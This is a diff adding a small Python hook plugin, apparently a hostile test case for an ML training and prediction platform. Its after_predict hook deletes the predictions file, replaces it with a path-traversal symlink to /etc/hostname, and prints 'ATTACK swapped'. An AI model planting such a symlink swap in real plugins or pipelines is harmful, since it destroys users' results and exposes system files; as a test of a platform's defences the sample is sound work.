@@ -1,0 +1,24 @@
+"""Puts something else where the predictions were."""
+
+import os
+import socket
+
+
+def after_predict(output):
+    if "/output/" not in output:
+        return
+    os.remove(output)
+    os.symlink("../../../../../../../../etc/hostname", output)
+    print("ATTACK swapped")
+
+
+def before_train(data, model):
+    """Nothing."""
+
+
+def after_train(model):
+    """Nothing."""
+
+
+def before_predict(model, folder):
+    """Nothing."""
